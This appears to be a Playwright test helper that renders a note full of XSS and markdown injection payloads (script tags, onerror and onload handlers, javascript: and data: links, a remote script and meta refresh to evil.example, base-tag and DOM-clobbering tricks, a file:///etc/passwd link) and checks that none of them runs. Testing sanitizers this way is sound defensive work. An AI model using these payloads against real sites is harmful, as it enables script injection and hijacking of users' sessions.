/** A patch note full of injections, and checks that none of them works in a real browser. */
import type { Locator, Page } from '@playwright/test'
import { expect } from './fixtures.ts'

export const RUN = 'window.hasRun=true'
const SCRIPT_DATA = `data:text/html,<script>${RUN}</script>`
const SVG_DATA = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`

const INJECTION_TEXT = [
  `<script>${RUN}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<p onclick="${RUN}" onmouseover="${RUN}" style="position:fixed;inset:0">cover</p>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.hasRun=true&lt;/script&gt;"></iframe>`,
  `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}">svg</a></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">math</mi></math>`,
  `<object data="${SCRIPT_DATA}"></object><embed src="${SCRIPT_DATA}">`,
  `<form action="javascript:${RUN}"><button>send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>body{display:none}</style>`,
  `[plain](javascript:${RUN}) [cased](JaVaScRiPt:${RUN}) [tab](java&#9;script:${RUN})`,
  `[entity](&#106;avascript:${RUN}) [vb](vbscript:x) [data](${SCRIPT_DATA.replaceAll(' ', '')})`,
  `[blob](blob:https://evil.example/x) [file](file:///etc/passwd)`,
  `<javascript:${RUN}> <https://example.com/fine>`,
  `![picture](javascript:${RUN}) ![svg](<${SVG_DATA}>) ![pixel](https://evil.example/p.gif)`,
  `[reference]\n\n[reference]: javascript:${RUN} "t"`,
  `![](x"onerror="${RUN}")`,
  `<a id="main" name="location" href="https://evil.example/">clobber</a>`,
].join('\n\n')

export const INJECTION_NOTE = { title: `<img src=x onerror=${RUN}>`, content: INJECTION_TEXT }

/** Nothing in it runs, embeds or loads anything, and it links only to where a plain link may. */
export async function expectHarmless(page: Page, shown: Locator): Promise<void> {
  await expect(shown).toContainText(`<script>${RUN}</script>`)
  // Words that a person might click or point at.
  for (const words of ['plain', 'cased', 'entity', 'data', 'vb', 'blob', 'file', 'reference']) {
    const word = shown.getByText(words, { exact: true })
    if ((await word.count()) > 0) {
      await word.first().click()
    }
  }
  const found = await shown.evaluate((root) => {
    const elements = [...root.querySelectorAll('*')]
    return {
      tags: [...new Set(elements.map(({ localName }) => localName))],
      attributes: [...new Set(elements.flatMap((it) => it.getAttributeNames()))],
      addresses: [...root.querySelectorAll('[href],[src]')]
        .map(
          (it) =>
            new URL(it.getAttribute('href') ?? it.getAttribute('src') ?? '', document.baseURI),
        )
        .map(({ href }) => href),
    }
  })
  const running = /^(?:script|iframe|frame|object|embed|svg|math|form|style|link|meta|base|button)$/
  expect(found.tags.filter((tag) => running.test(tag))).toEqual([])
  const dangerous = /^(?:on.*|style|srcdoc|action|formaction|id|name|xlink:href)$/
  expect(found.attributes.filter((name) => dangerous.test(name))).toEqual([])
  expect(found.addresses).toContain('https://example.com/fine')
  const allowed = /^(?:https?:|mailto:)/
  expect(found.addresses.filter((address) => !allowed.test(address))).toEqual([])
  expect(await page.evaluate(() => 'hasRun' in globalThis)).toBe(false)
  expect(await page.evaluate(() => document.baseURI === location.href)).toBe(true)
}

/** Hosts of the page's requests from now on. */
export function watchHosts(page: Page): Set<string> {
  const hosts = new Set<string>()
  page.on('request', (request) => hosts.add(new URL(request.url()).host))
  return hosts
}
